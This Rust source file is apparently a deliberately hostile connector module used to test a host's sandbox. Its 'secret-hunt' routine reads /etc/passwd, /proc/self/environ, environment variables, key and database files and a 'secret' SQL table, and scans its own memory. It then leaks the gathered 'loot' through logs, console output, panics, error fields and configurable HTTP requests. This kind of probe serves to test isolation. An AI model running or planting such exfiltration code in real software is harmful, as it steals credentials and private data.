//! Tries to get the target's secret, by everything a connector can see and do, and lets what it saw out by everything a connector can say.

use std::fmt::Write as _;

use serde_json::{Value, json};
use wasip2::http::outgoing_handler;
use wasip2::http::types::{Fields, IncomingBody, Method, OutgoingBody, OutgoingRequest, Scheme};
use wasip2::io::streams::StreamError;

use crate::bindings::exports::usher::connector::accounts::Guest as _;
use crate::bindings::usher::connector::types::{Account, Call, CallError, Effect, ErrorKind};
use crate::bindings::usher::host::log::{self, Level};
use crate::bindings::usher::host::sql;
use crate::{Hostile, Outcome, account, error};

/// Most bytes of one piece of loot: what a log line or a message holds.
const PIECE_BYTES: usize = 3_000;

pub(crate) fn run(behaviour: &str, call: &Call, settings: &Value) -> Outcome {
    match behaviour {
        "secret-send" => Some(send(settings)),
        "secret-hunt" => Some(hunt(call, settings)),
        _ => None,
    }
}

/// Makes the requests of the settings, in order, and tells what came of them.
fn send(settings: &Value) -> Result<Account, CallError> {
    let answers: Vec<String> = requests(settings)
        .map(|request| match exchange(settings, request) {
            Ok(answer) => answer,
            Err(why) => format!("failed: {why}"),
        })
        .collect();
    let told = answers.join("\n");
    if answers.iter().any(|answer| answer.starts_with("failed: ")) {
        return Err(error(ErrorKind::Unavailable, Effect::None, told));
    }
    Ok(Account {
        attributes: json!({ "answers": answers }).to_string(),
        ..account("sent")
    })
}

/// Gathers all there is, then lets it out in the way the settings say.
fn hunt(call: &Call, settings: &Value) -> Result<Account, CallError> {
    let mut loot = format!("settings {}\n", call.settings);
    let _ = writeln!(loot, "arguments {:?}", std::env::args().collect::<Vec<_>>());
    let _ = writeln!(loot, "environment {:?}", std::env::vars().collect::<Vec<_>>());
    for path in [
        "/etc/passwd",
        "/proc/self/environ",
        ".",
        "/",
        "usher.key",
        "usher.db",
    ] {
        let _ = writeln!(loot, "file {path} {:?}", std::fs::read(path));
    }
    let mut input = String::new();
    let _ = writeln!(
        loot,
        "input {:?} {input:?}",
        std::io::stdin().read_line(&mut input)
    );
    let statement = sql::Statement {
        sql: "SELECT * FROM secret".to_owned(),
        parameters: vec![],
    };
    let _ = writeln!(
        loot,
        "sql {:?} {:?}",
        sql::dialect_of("app"),
        sql::query("app", &statement)
    );
    for request in requests(settings) {
        let _ = writeln!(loot, "answer {:?}", exchange(settings, request));
    }
    let _ = writeln!(loot, "schema {:?}", Hostile::schema(call.clone()));
    let _ = writeln!(loot, "memory {}", in_memory(settings));
    for piece in loot.as_bytes().chunks(PIECE_BYTES) {
        let piece = String::from_utf8_lossy(piece);
        log::write(Level::Error, &piece);
        println!("{piece}");
        eprintln!("{piece}");
    }
    match settings["way-out"].as_str().unwrap_or_default() {
        "trap" => panic!("{loot}"),
        "error" => Err(CallError {
            existing_id: Some(cut(&loot, 1_000)),
            ..error(ErrorKind::Conflict, Effect::None, loot)
        }),
        "code" => Err(error(ErrorKind::Other(cut(&loot, 60)), Effect::None, loot)),
        _ => Ok(Account {
            attributes: json!({ "loot": loot }).to_string(),
            version: Some(cut(&loot, 1_000)),
            marker: Some(cut(&loot, 1_000)),
            ..account(cut(&loot, 1_000))
        }),
    }
}

fn cut(text: &str, bytes: usize) -> String {
    String::from_utf8_lossy(&text.as_bytes()[..text.len().min(bytes)]).into_owned()
}

fn requests(settings: &Value) -> impl Iterator<Item = &Value> {
    settings["requests"].as_array().into_iter().flatten()
}

/// Looks through the whole memory of this instance. What is looked for is given masked, so that the search does not find itself.
fn in_memory(settings: &Value) -> &'static str {
    const MASK: u8 = 0x55;
    let masked: Vec<u8> = settings["masked"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|byte| byte.as_u64().map(|byte| byte as u8))
        .collect();
    if masked.is_empty() {
        return "nothing to look for";
    }
    let found = all_memory().windows(masked.len()).any(|window| {
        window
            .iter()
            .zip(&masked)
            .all(|(byte, masked)| byte ^ MASK == *masked)
    });
    if found {
        "holds the secret"
    } else {
        "holds no secret"
    }
}

#[cfg(target_arch = "wasm32")]
fn all_memory() -> &'static [u8] {
    let pages = core::arch::wasm32::memory_size(0);
    // SAFETY: these are all pages of this instance's memory but its first bytes (no slice begins at address zero); they are only read, as
    // bytes, and what changes meanwhile is the frame of the search itself.
    unsafe { std::slice::from_raw_parts(8 as *const u8, pages * 65_536 - 8) }
}

/// Only a component has a memory that is all its own.
#[cfg(not(target_arch = "wasm32"))]
fn all_memory() -> &'static [u8] {
    &[]
}

/// One request. `@name@` in header values, path and body stands for the setting of that name.
fn exchange(settings: &Value, request: &Value) -> Result<String, String> {
    let filled = |text: &str| {
        let mut text = text.to_owned();
        for (name, value) in settings.as_object().into_iter().flatten() {
            if let Some(value) = value.as_str() {
                text = text.replace(&format!("@{name}@"), value);
            }
        }
        text
    };
    let text = |name: &str| filled(request[name].as_str().unwrap_or_default());
    let headers = Fields::new();
    for (name, value) in request["headers"].as_object().into_iter().flatten() {
        let value = filled(value.as_str().unwrap_or_default());
        headers
            .append(name, value.as_bytes())
            .map_err(|error| format!("header {name}: {error:?}"))?;
    }
    let refused = |()| "refused before it was sent".to_owned();
    let outgoing = OutgoingRequest::new(headers);
    let method = match request["method"].as_str() {
        None | Some("GET") => Method::Get,
        Some("POST") => Method::Post,
        Some(other) => Method::Other(other.to_owned()),
    };
    outgoing.set_method(&method).map_err(refused)?;
    outgoing.set_scheme(Some(&Scheme::Http)).map_err(refused)?;
    let authority = request["authority"].as_str().or(settings["authority"].as_str());
    outgoing.set_authority(authority).map_err(refused)?;
    outgoing
        .set_path_with_query(Some(&text("path")))
        .map_err(refused)?;
    let body = outgoing.body().map_err(refused)?;
    let answer = outgoing_handler::handle(outgoing, None).map_err(|code| format!("{code:?}"))?;
    if let Ok(stream) = body.write() {
        for chunk in text("body").as_bytes().chunks(4_096) {
            let _ = stream.blocking_write_and_flush(chunk);
        }
    }
    let _ = OutgoingBody::finish(body, None);
    let ready = answer.subscribe();
    let response = loop {
        match answer.get() {
            Some(answer) => break answer.map_err(refused)?.map_err(|code| format!("{code:?}"))?,
            None => ready.block(),
        }
    };
    let mut told = response.status().to_string();
    for (name, value) in response.headers().entries() {
        let _ = write!(told, " {name}={}", String::from_utf8_lossy(&value));
    }
    told.push(' ');
    let body = response.consume().map_err(refused)?;
    // What came before an answer was cut is loot too.
    match read(&body, &mut told) {
        Ok(()) => Ok(told),
        Err(why) => Err(format!("cut: {why} after {told}")),
    }
}

fn read(body: &IncomingBody, told: &mut String) -> Result<(), String> {
    let stream = body.stream().map_err(|()| "no body".to_owned())?;
    loop {
        match stream.blocking_read(64 * 1024) {
            Ok(bytes) => told.push_str(&String::from_utf8_lossy(&bytes)),
            Err(StreamError::Closed) => return Ok(()),
            Err(error) => return Err(format!("{error:?}")),
        }
    }
}
